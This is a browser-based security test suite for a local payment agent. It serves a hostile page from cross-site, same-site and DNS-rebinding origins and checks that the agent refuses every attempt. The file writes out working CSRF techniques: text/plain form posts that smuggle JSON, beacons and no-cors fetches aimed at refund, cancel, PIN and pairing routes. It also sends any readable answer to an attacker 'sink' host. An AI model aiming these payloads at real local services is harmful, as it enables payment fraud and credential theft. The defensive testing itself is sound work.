// Browser attack suite: a hostile page, served from another origin (cross-site `localhost`,
// same-site `127.0.0.1:<other port>`, and a DNS-rebinding name mapped to 127.0.0.1), tries every
// way a page can reach the agent without its cooperation — images, frames, top-level
// navigations, form posts, `fetch` with `no-cors` and with CORS, beacons — against every route.
// Nothing may move money, change state or leak a credential: afterwards the sandbox, the journal,
// the pairing, the PIN and the offline indicator are as they were, and nothing the page could read
// holds the POS token or the device id.
//
// Figures (requests the browser sent to the agent, accepted = 2xx, 5xx) are printed and written
// to target/test-artifacts/ui/attack.json; docs/SECURITY.md quotes them.
"use strict";

const { test, before, after } = require("node:test");
const assert = require("node:assert/strict");
const http = require("node:http");
const fs = require("node:fs");
const h = require("./lib/harness");

let agent;
let browser;
let hostile;
let hostilePort;
let paid;
let pending;
let posToken;
const PIN = "8642";
const leaks = [];

/** The hostile site: a page with the attack script, and a sink for whatever it manages to read. */
function startHostile() {
  const server = http.createServer((req, res) => {
    if (req.url.startsWith("/sink")) {
      let body = "";
      req.on("data", (c) => { body += c; });
      req.on("end", () => { leaks.push(body); res.writeHead(204); res.end(); });
      return;
    }
    res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" });
    res.end("<!doctype html><title>hostile</title><body><p>totally a recipe site</p></body>");
  });
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
}

function routes() {
  const n = paid.TransactionNumber;
  const p = pending.TransactionNumber;
  return [
    ["POST", "/api/transactions/init", { amount: 100, isCent: true, currency: "USD" }],
    ["POST", "/api/transactions/init/sync", { amount: 100, isCent: true, currency: "USD" }],
    ["GET", "/api/transactions/last"],
    ["POST", "/api/transactions/refund", { transactionNumber: n }],
    ["POST", "/api/api/transactions/refund", { transactionNumber: n }],
    ["POST", "/api/transactions/./refund", { transactionNumber: n }],
    ["POST", "/api/transactions/credit", { token: "t", refundAmount: 1, isCent: true }],
    ["POST", "/api/transactions/cancel/" + n, {}],
    ["POST", "/api/transactions/cancel/" + p, {}],
    ["POST", "/api/transactions/cancelByDeviceId/" + agent.deviceId, {}],
    ["POST", "/api/transactions/products/update", { amount: 1, isCent: true, currency: "USD", products: [] }],
    ["GET", "/api/transactions/" + n],
    ["PATCH", "/api/transactions/" + p, { amount: 1, isCent: true, currency: "USD" }],
    ["POST", "/api/transactions/customer-input", { type: "phone" }],
    ["POST", "/api/transactions/pay", { amount: 1 }],
    ["GET", "/api/devices"],
    ["GET", "/api/agent/health"],
    ["GET", "/api/agent/events"],
    ["GET", "/api/agent/transactions"],
    ["GET", "/api/agent/transactions/" + n],
    ["GET", "/api/agent/outbox"],
    ["GET", "/api/agent/openapi.json"],
    ["GET", "/api/agent/qr.svg?data=x"],
    ["GET", "/api/agent/transactions/" + n + "/receipt.pdf"],
    ["GET", "/api/agent/transactions.csv"],
    ["GET", "/api/agent/summary"],
    ["GET", "/api/agent/manager"],
    ["POST", "/api/agent/manager/pin", { pin: "0000", currentPin: PIN }],
    ["POST", "/api/agent/manager/login", { pin: PIN }],
    ["POST", "/api/agent/manager/logout", {}],
    ["GET", "/api/agent/settings"],
    ["POST", "/api/agent/pairing", { method: "device", deviceId: "attacker-device" }],
    ["DELETE", "/api/agent/pairing"],
    ["GET", "/api/http:127.0.0.1:" + hostilePort + "/sink"],
    ["GET", "/"],
  ];
}

/** Runs the attacks from a page at `origin` against agent base `target`. Returns what JS could read. */
async function attackFrom(page, origin, target) {
  await page.goto(origin + "/");
  return page.evaluate(async ({ target, routes, sink }) => {
    const read = [];
    const settle = (ms) => new Promise((r) => setTimeout(r, ms));
    for (const [method, path, body] of routes) {
      const url = target + path;
      const json = body === undefined ? undefined : JSON.stringify(body);
      // 1. <img> and <iframe>: GETs with no Origin header.
      const img = document.createElement("img");
      img.src = url;
      document.body.appendChild(img);
      const frame = document.createElement("iframe");
      frame.src = url;
      document.body.appendChild(frame);
      // 2. A form post (text/plain can smuggle a JSON body) into a frame.
      if (method !== "GET") {
        const name = "f" + Math.random().toString(36).slice(2);
        const sinkFrame = document.createElement("iframe");
        sinkFrame.name = name;
        document.body.appendChild(sinkFrame);
        const form = document.createElement("form");
        form.method = "POST";
        form.action = url;
        form.enctype = "text/plain";
        form.target = name;
        const input = document.createElement("input");
        input.name = (json || "{}").slice(0, -1) + ',"x":"';
        input.value = '"}';
        form.appendChild(input);
        document.body.appendChild(form);
        form.submit();
        // 3. A beacon (POST, no preflight).
        try { navigator.sendBeacon(url, new Blob([json || "{}"], { type: "text/plain" })); } catch (_) { /* refused by the browser */ }
      }
      // 4. fetch no-cors with a "simple" content type, and with JSON (the browser downgrades it).
      for (const type of ["text/plain", "application/json"]) {
        try {
          await fetch(url, { method: method === "GET" ? "GET" : "POST", mode: "no-cors", headers: { "Content-Type": type }, body: method === "GET" ? undefined : json, credentials: "include" });
        } catch (_) { /* network error: refused */ }
      }
      // 5. fetch with CORS: a preflight for JSON; the answer must not be readable.
      try {
        const r = await fetch(url, { method, headers: { "Content-Type": "application/json" }, body: method === "GET" ? undefined : json });
        const text = await r.text();
        read.push({ path, status: r.status, text });
      } catch (_) { /* CORS refused: nothing readable */ }
    }
    await settle(500);
    if (read.length) await fetch(sink, { method: "POST", body: JSON.stringify(read) });
    return read;
  }, { target, routes: routes(), sink: origin + "/sink" });
}

/** Top-level navigations from the hostile page to every GET route (and a form post as navigation). */
async function navigateFrom(page, origin, target) {
  const statuses = [];
  for (const [method, path, body] of routes()) {
    // A fresh tab per navigation, so that one navigation never interrupts the next.
    const tab = await page.context().newPage();
    await tab.goto(origin + "/");
    const url = target + path;
    const response = tab.waitForResponse((r) => r.url().startsWith(target) && r.request().isNavigationRequest(), { timeout: 5000 }).catch(() => null);
    if (method === "GET") {
      await tab.evaluate((u) => { window.location.href = u; }, url);
    } else {
      await tab.evaluate(({ u, b }) => {
        const f = document.createElement("form");
        f.method = "POST";
        f.action = u;
        f.enctype = "text/plain";
        const i = document.createElement("input");
        i.name = b.slice(0, -1) + ',"x":"';
        i.value = '"}';
        f.appendChild(i);
        document.body.appendChild(f);
        f.submit();
      }, { u: url, b: JSON.stringify(body || {}) });
    }
    const r = await response;
    if (r) statuses.push({ path, status: r.status() });
    if (process.env.ATTACK_DEBUG) console.log("# nav " + method + " " + path + " → " + (r ? r.status() : "none"));
    // Closing a tab whose form post was refused can hang in headless Chromium: do not wait long.
    await Promise.race([tab.close().catch(() => {}), new Promise((r) => setTimeout(r, 1000))]);
  }
  return statuses;
}

before(async () => {
  agent = await h.startAgent("attack");
  hostile = await startHostile();
  hostilePort = hostile.address().port;
  h.setPin(agent, PIN);
  // The device ID in full needs a credential (a manager session here).
  const session = await h.pos(agent, "POST", "/api/agent/manager/login", { pin: PIN });
  const health = (await h.pos(agent, "GET", "/api/agent/health", undefined, { Authorization: "Bearer " + session.body.token })).body;
  assert.equal(health.deviceIdMasked, false);
  agent.deviceId = health.deviceId;
  const a = await h.pos(agent, "POST", "/api/transactions/init", h.cart("ATK-PAID-" + Date.now()));
  assert.equal(a.status, 200, JSON.stringify(a.body));
  paid = a.body;
  await h.control(agent, "POST", "/transactions/" + paid.TransactionNumber + "/pay", { card: "4111111111111111" });
  await h.until(async () => (await h.pos(agent, "GET", "/api/agent/transactions/" + paid.TransactionNumber)).body.statusKey === "approved", 15000, "approval");
  const b = await h.pos(agent, "POST", "/api/transactions/init", h.cart("ATK-PENDING-" + Date.now()));
  assert.equal(b.status, 200, JSON.stringify(b.body));
  pending = b.body;
  const login = await h.pos(agent, "POST", "/api/agent/manager/login", { pin: PIN });
  posToken = (await h.pos(agent, "GET", "/api/agent/settings", undefined, { Authorization: "Bearer " + login.body.token })).body.posToken;
  assert.match(posToken, /^[0-9a-f]{64}$/);
  const port = new URL(agent.url).port;
  // rebind.test and evil.test resolve to 127.0.0.1, as a DNS-rebinding attacker's names would.
  browser = await h.launchBrowser(["--host-resolver-rules=MAP rebind.test 127.0.0.1, MAP evil.test 127.0.0.1"]);
  agent.port = port;
});

after(async () => {
  if (browser) await browser.close();
  if (hostile) { hostile.closeAllConnections(); hostile.close(); }
  if (agent) await agent.stop();
});

test("a hostile page cannot move money, change state or read a credential", async () => {
  const snapshot = async () => {
    const sandbox = await (await fetch(agent.control + "/state")).json();
    const journal = (await h.pos(agent, "GET", "/api/agent/transactions?limit=500")).body;
    const health = (await h.pos(agent, "GET", "/api/agent/health")).body;
    return {
      sandbox: sandbox.transactions.map((t) => [t.TransactionNumber, t.status, t.amount, t._sandbox && t._sandbox.refundedMinor]),
      journal: journal.items.map((t) => [t.localId, t.status, t.amountMinor]),
      total: journal.total,
      paired: [health.paired, health.deviceId],
      reachable: health.sensepassReachable,
    };
  };
  const before = await snapshot();
  const page = await h.newPage(browser);
  const seen = { tried: 0, accepted: 0, "4xx": 0, "5xx": 0, refused: 0, answers: {} };
  page.context().on("request", (r) => { if (r.url().includes(":" + agent.port + "/")) seen.tried += 1; });
  page.context().on("requestfailed", (r) => { if (r.url().includes(":" + agent.port + "/")) seen.refused += 1; });
  page.context().on("response", (r) => {
    if (!r.url().includes(":" + agent.port + "/")) return;
    const s = r.status();
    seen.answers[s] = (seen.answers[s] || 0) + 1;
    if (s >= 200 && s < 300) { seen.accepted += 1; console.log("# accepted: " + r.request().method() + " " + r.url()); }
    if (s >= 400 && s < 500) seen["4xx"] += 1;
    if (s >= 500) seen["5xx"] += 1;
  });
  const target = "http://127.0.0.1:" + agent.port;
  const origins = [
    ["cross-site", "http://evil.test:" + hostilePort],
    ["same-site", "http://127.0.0.1:" + hostilePort],
    ["cross-site localhost", "http://localhost:" + hostilePort],
  ];
  const readable = [];
  const navigations = [];
  for (const [name, origin] of origins) {
    let t = Date.now();
    readable.push(...(await attackFrom(page, origin, target)));
    if (process.env.ATTACK_DEBUG) console.log("# " + name + ": sub-resources in " + (Date.now() - t) + " ms");
    t = Date.now();
    navigations.push(...(await navigateFrom(page, origin, target)));
    if (process.env.ATTACK_DEBUG) console.log("# " + name + ": navigations in " + (Date.now() - t) + " ms");
  }
  // DNS rebinding: the attacker's name now resolves to 127.0.0.1, so its pages and fetches reach
  // the agent same-origin; only the Host check stands in the way.
  const rebound = "http://rebind.test:" + agent.port;
  for (const path of ["/", "/api/devices", "/api/agent/settings", "/api/agent/health"]) {
    const r = await page.goto(rebound + path).catch(() => null);
    if (r) navigations.push({ path: "rebind " + path, status: r.status() });
  }
  readable.push(...(await attackFrom(page, rebound, rebound)));
  await new Promise((r) => setTimeout(r, 1000));

  const after = await snapshot();
  assert.deepEqual(after, before, "state changed");
  for (const n of navigations) assert.equal(n.status, 403, "navigation " + n.path + " answered " + n.status);
  // What the page could read (answer bodies) and what reached its sink; request paths are not
  // answers (one route has the device id in its path).
  const sunk = leaks.flatMap((l) => { try { return JSON.parse(l); } catch (_) { return [{ text: l }]; } });
  const everything = readable.concat(sunk).map((r) => String(r.text)).join("\n");
  assert.ok(!everything.includes(posToken), "the POS token leaked");
  assert.ok(!everything.includes(agent.deviceId), "the device id leaked");
  const okReads = readable.filter((r) => r.status >= 200 && r.status < 300);
  assert.deepEqual(okReads, [], "a hostile page read an answer");
  assert.equal(seen.accepted, 0, "the agent accepted requests from a hostile page");
  assert.equal(seen["5xx"], 0, "5xx answers");
  const login = await h.pos(agent, "POST", "/api/agent/manager/login", { pin: PIN });
  assert.equal(login.status, 200, "the PIN is unchanged");
  const figures = Object.assign({ navigations: navigations.length, readable: readable.length }, seen);
  console.log("# attack: " + JSON.stringify(figures));
  fs.writeFileSync(h.artifact("attack.json"), JSON.stringify(figures, null, 2));
});
